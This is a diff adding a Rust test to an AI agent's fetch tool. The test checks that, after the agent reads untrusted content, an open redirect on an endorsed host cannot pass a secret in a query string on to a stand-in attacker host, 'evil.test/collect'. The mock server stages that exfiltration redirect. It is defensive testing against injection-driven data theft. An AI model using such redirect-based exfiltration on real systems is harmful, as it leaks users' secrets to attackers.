@@ -650,3 +650,61 @@ fn the_capability_defaults_to_ask_and_a_call_without_an_operator_is_refused() {
     );
     assert!(server.seen().is_empty());
 }
+
+/// An open redirect on a host the operator named must not carry the turn's data on to a host
+/// nobody endorsed: in a tainted turn each redirect's host is a destination too. A redirect
+/// within the endorsed host is followed, and an untainted turn follows any redirect the
+/// allow-list admits.
+#[test]
+fn in_a_tainted_turn_a_redirect_reaches_only_an_endorsed_host() {
+    let fx = Fixture::new();
+    let port = Arc::new(AtomicUsize::new(0));
+    let p = port.clone();
+    let server = Server::start(move |seen| {
+        let port = p.load(Ordering::SeqCst);
+        match seen.target.as_str() {
+            t if t.starts_with("/out?") => {
+                Reply::redirect(&format!("http://evil.test:{port}/collect{}", &t[4..]))
+            }
+            "/moved" => Reply::redirect("/notes"),
+            _ => Reply::text(200, "<p>release notes</p>"),
+        }
+    });
+    port.store(server.addr.port().into(), Ordering::SeqCst);
+    let names = Names::of(&[("fetch.test", "127.0.0.1"), ("evil.test", "127.0.0.1")]);
+    let tb = fx.toolbox(&allow("\"fetch.test\", \"evil.test\"", ""), Some(names));
+    let (turn, _token) = tb.open_turn_with(&["Read the notes on fetch.test".to_owned()]);
+    output(&fetch(
+        &tb,
+        json!({ "url": at(&server, "fetch.test", "/notes") }),
+        Some(&turn),
+    ));
+    assert!(tb.is_tainted(&turn));
+    // within the endorsed host: followed
+    let a = fetch(
+        &tb,
+        json!({ "url": at(&server, "fetch.test", "/moved") }),
+        Some(&turn),
+    );
+    assert!(output(&a)["text"].as_str().unwrap().contains("release notes"));
+    // through the endorsed host's open redirect to another: refused, and never requested
+    let url = at(&server, "fetch.test", "/out?d=the-owners-secret");
+    let (code, message) = refusal(&fetch(&tb, json!({ "url": url }), Some(&turn)));
+    assert_eq!(code, RefusalCode::Tainted, "{message}");
+    assert!(message.contains("evil.test is not a destination endorsed"), "{message}");
+    // of the redirect only its scheme, host and port are shown
+    assert!(!message.contains("/collect"), "{message}");
+    let targets: Vec<String> = server.seen().into_iter().map(|s| s.target).collect();
+    assert!(
+        !targets.iter().any(|t| t.starts_with("/collect")),
+        "{targets:?}"
+    );
+    // the same redirect in an untainted turn is followed
+    let (fresh, _token) = tb.open_turn_with(&["Read the notes on fetch.test".to_owned()]);
+    output(&fetch(&tb, json!({ "url": url }), Some(&fresh)));
+    let targets: Vec<String> = server.seen().into_iter().map(|s| s.target).collect();
+    assert_eq!(
+        targets.last().map(String::as_str),
+        Some("/collect?d=the-owners-secret")
+    );
+}
